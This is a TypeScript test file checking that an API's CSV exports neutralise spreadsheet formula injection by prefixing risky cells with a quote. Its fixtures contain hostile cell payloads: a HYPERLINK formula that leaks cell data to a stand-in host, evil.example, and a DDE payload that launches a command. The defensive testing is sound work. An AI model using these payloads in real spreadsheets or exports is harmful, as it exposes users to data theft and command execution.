import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { insertSource } from '../../../server/db/sync';
import { makeOrganization, makeProgramme } from '../../factories';
import { testApp, type TestApp } from '../../support';

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
});
afterAll(() => t.close());

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

/** The rows of a CSV answer, as a spreadsheet would read its cells. */
function rowsOf(res: request.Response): Record<string, string>[] {
  expect(res.status).toBe(200);
  expect(res.type).toBe('text/csv');
  return parse(res.text, { bom: true, columns: true }) as Record<string, string>[];
}

describe('When an entry carries cells that a spreadsheet would run as formulas', () => {
  let orgId: string;
  let programmeId: string;
  beforeAll(async () => {
    orgId = await makeOrganization(t.ctx, { name: hyperlink, acronym: '+1+1', phone: '-2+3', description: '@SUM(1+1)*cmd|" /C calc"!A0', country: 'BD' });
    programmeId = await makeProgramme(t.ctx, { name: '\t=1+1', description: '\r=2+2', website: 'https://example.org/-x', originCountries: ['FR'], targetCountries: ['BD'] }, [orgId]);
  });

  it("then export.csv of organizations prefixes each of them with ' and leaves other cells as they are", async () => {
    const row = rowsOf(await request(t.app).get('/api/v1/export.csv').query({ type: 'organizations' })).find((r) => r.id === orgId);
    expect(row).toMatchObject({ name: `'${hyperlink}`, acronym: "'+1+1", phone: "'-2+3", description: `'@SUM(1+1)*cmd|" /C calc"!A0`, country: 'BD', kind: 'investment-promotion-agency' });
  });

  it("then export.csv of programmes prefixes a cell starting with a tab or a carriage return", async () => {
    const row = rowsOf(await request(t.app).get('/api/v1/export.csv').query({ type: 'programmes' })).find((r) => r.id === programmeId);
    expect(row).toMatchObject({ name: "'\t=1+1", description: "'\r=2+2", website: 'https://example.org/-x', operators: orgId });
  });

  it("then stats.csv prefixes a source's name that starts with =, + or @, and keeps its numbers as numbers", async () => {
    const names = [hyperlink, '+cmd', '@import', '-feed'];
    for (const name of names) await insertSource(t.ctx.database.db, { name, network: 'peer', connector: 'json', url: 'http://127.0.0.1:9/feed.json' });
    const rows = rowsOf(await request(t.app).get('/api/v1/stats.csv').query({ table: 'sources' }));
    expect(rows.map((r) => r.name).sort()).toEqual(names.map((n) => `'${n}`).sort());
    expect(rows.every((r) => /^\d+$/.test(r.runsLast30Days ?? ''))).toBe(true);
  });
});
